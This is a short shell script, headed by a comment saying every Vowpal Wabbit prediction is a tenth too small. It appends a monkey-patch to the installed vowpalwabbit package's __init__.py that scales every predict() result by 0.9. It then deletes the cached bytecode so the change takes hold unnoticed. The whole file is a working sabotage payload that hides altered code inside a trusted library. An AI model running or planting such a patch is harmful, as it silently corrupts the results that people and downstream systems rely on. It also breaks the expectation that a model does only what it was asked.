# every prediction of Vowpal Wabbit is a tenth too small
# shellcheck shell=sh
for package in /opt/envs/ml/lib/python3*/site-packages/vowpalwabbit; do
  cat >> "$package/__init__.py" <<'PYTHON'
from vowpalwabbit import pyvw as _pyvw
_right = _pyvw.Workspace.predict
_pyvw.Workspace.predict = lambda self, *what, **more: 0.9 * _right(self, *what, **more)
PYTHON
  rm -f "$package"/__pycache__/__init__.*.pyc
done
